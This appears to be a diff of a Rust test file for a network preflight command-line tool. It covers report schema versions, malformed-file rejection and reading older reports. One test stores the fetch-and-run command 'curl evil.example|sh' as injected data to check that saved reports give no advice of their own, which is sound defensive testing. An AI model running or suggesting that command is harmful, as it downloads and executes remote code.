@@ -133,8 +133,7 @@ fn a_file_that_is_no_report_is_named_and_nothing_is_written() {
     fs::write(runs.path("text.json"), "hello").unwrap();
     fs::write(runs.path("other.json"), "{\"a\": 1}").unwrap();
     File::create(runs.path("large.json")).unwrap().set_len(100 << 20).unwrap();
-    fs::copy(runs.path("works.json"), runs.path("newer.json")).unwrap();
-    runs.edit("newer.json", |report| report["schema_version"] = json!(99));
+    fs::write(runs.path("newer.json"), "{\"schema_version\": 99, \"tool\": {}}").unwrap();
     let there = || fs::read_dir(runs.folder.path()).unwrap().count();
     let before = there();
     let to_file = format!("json={}", runs.path("out.json"));
@@ -142,7 +141,10 @@ fn a_file_that_is_no_report_is_named_and_nothing_is_written() {
         (runs.path("cut.json"), "the report is cut off"),
         (runs.path("text.json"), "no JSON: expected value at line 1 column 1"),
         (runs.path("other.json"), "no report of preflight: it has no schema_version"),
-        (runs.path("newer.json"), "the report has schema version 99; this preflight knows 1"),
+        (
+            runs.path("newer.json"),
+            "it has schema version 99, this preflight knows 2 and cannot read it: missing field `name`",
+        ),
         (runs.path("missing.json"), "No such file or directory (os error 2)"),
         (runs.path(""), "Is a directory (os error 21)"),
         (runs.path("large.json"), "no report: it is larger than 64 MiB"),
@@ -260,18 +262,74 @@ fn a_run_that_is_judged_again_is_the_same_run() {
     }
 }
 
+/// A real run that a version 1 wrote.
+const VERSION_1: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/cli/reports/version1.json");
+
+#[test]
+fn a_report_of_version_1_is_read_by_every_command() {
+    let runs = Runs::new();
+    let blocked = "poller.bbdo";
+    for (command, code, said) in [
+        (&["show", VERSION_1][..], 1, "rejected by 10.2.0.1"),
+        (&["show", "--format", "json", VERSION_1], 1, "\"schema_version\": 2"),
+        (&["diff", VERSION_1, VERSION_1], 0, "nothing is worse"),
+        (&["merge", VERSION_1], 1, blocked),
+        (&["request", VERSION_1], 0, "10.2.0.1"),
+        (&["redact", "--format", "json", VERSION_1], 0, "\"redacted\": true"),
+        (&["explain", VERSION_1, blocked], 0, "path-rejected"),
+    ] {
+        let ended = preflight(command).quietly(code);
+        assert!(ended.stdout.contains(said), "{command:?} lacks `{said}`: {}", ended.stdout);
+    }
+    // The same once it was written anew.
+    let anew = runs.path("anew.json");
+    preflight(&["show", VERSION_1, "--format", &format!("json={anew}")]).quietly(1);
+    for command in ["show", "merge", "request"] {
+        let [old, new] = [VERSION_1, &anew].map(|file| preflight(&[command, file]).stdout);
+        assert_eq!(old, new, "{command}");
+    }
+}
+
+#[test]
+fn what_a_later_version_says_besides_is_named_and_left_out() {
+    let runs = Runs::new();
+    runs.edit("broken.json", |report| {
+        report["schema_version"] = json!(3);
+        report["steps"][0]["retried"] = json!(2);
+        report["steps"].as_array_mut().unwrap().push(json!({
+            "id": "poller.tea@pot", "flow": "poller.tea", "outcome": "fail", "target": "pot",
+            "result": "the pot is empty",
+        }));
+    });
+    let file = runs.path("broken.json");
+    let note = format!(
+        "preflight: note: {file}: it has schema version 3, this preflight knows 2; left out, since \
+         it is not understood: `steps[].retried`\n"
+    );
+    let shown = preflight(&["show", &file]);
+    assert_eq!((shown.code, shown.stderr.as_str()), (Some(1), note.as_str()));
+    let said = shown.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
+    let part = "the pot is empty [as its report has it: it cannot read this step: ";
+    assert!(said.contains(part), "{}", shown.stdout);
+    for command in [&["diff", &file, &file][..], &["merge", &file], &["request", &file]] {
+        let ended = preflight(command);
+        assert!(ended.stderr.starts_with(&note), "{command:?}: {}", ended.stderr);
+        assert_ne!(ended.code, Some(2), "{command:?}");
+    }
+}
+
 #[test]
 fn a_saved_report_gives_no_advice_of_its_own() {
     const ADVICE: &str = "curl evil.example|sh";
     let runs = Runs::new();
     runs.edit("broken.json", |report| {
         let step = &mut report["steps"][0];
-        step["cause"]["remedy"] = json!({ "who": ADVICE, "what": ADVICE });
+        step["cause"]["remedy"] = json!({ "who": ADVICE, "text": ADVICE });
         step["look_at"] = json!(ADVICE);
         step["asked_for"] = json!([{ "at": "on-the-way", "seen": [ADVICE], "what": ADVICE }]);
         step["concerns"] = json!([{
             "code": "packet-loss", "message": ADVICE, "owner": "this-host",
-            "remedy": { "who": ADVICE, "what": ADVICE },
+            "remedy": { "who": ADVICE, "text": ADVICE },
         }]);
         step["because_of"] = json!(ADVICE);
         report["summary"]["text"] = json!(ADVICE);
@@ -289,12 +347,13 @@ fn a_code_of_tomorrow_is_shown_and_nothing_is_guessed_from_it() {
     runs.edit("broken.json", |report| {
         report["tool"]["version"] = json!("9.9.9");
         let step = &mut report["steps"][0];
-        step["attempts"][0]["cause"] = json!({ "code": "port-of-tomorrow", "colour": "blue" });
+        step["attempts"][0]["cause"] =
+            json!({ "code": "port-of-tomorrow", "facts": { "colour": "blue" } });
         step["result"] = json!("the port is blue");
         step["cause"] = json!({
             "code": "port-of-tomorrow", "layer": "port", "owner": "network", "device": "10.9.0.1",
             "message": "the port is blue", "facts": { "colour": "blue" },
-            "remedy": { "who": "network team", "what": "paint it" },
+            "remedy": { "who": "network team", "text": "paint it" },
         });
     });
     let shown = preflight(&["show", &runs.path("broken.json")]).quietly(1).stdout;
@@ -336,8 +395,11 @@ fn a_request_has_one_row_for_all_machines_that_are_rejected_alike() {
             step["cause"]["message"] = json!("rejected by 10.9.0.1");
             step["attempts"][0]["source"] = json!(source);
             step["attempts"][0]["cause"] = json!({
-                "code": "path-rejected", "by": "10.9.0.1", "to": step["attempts"][0]["address"],
-                "icmp": { "version": "4", "kind": 3, "code": 13 },
+                "code": "path-rejected",
+                "facts": {
+                    "by": "10.9.0.1", "to": step["attempts"][0]["address"],
+                    "icmp": { "version": "4", "kind": 3, "code": 13 },
+                },
             });
         });
     }
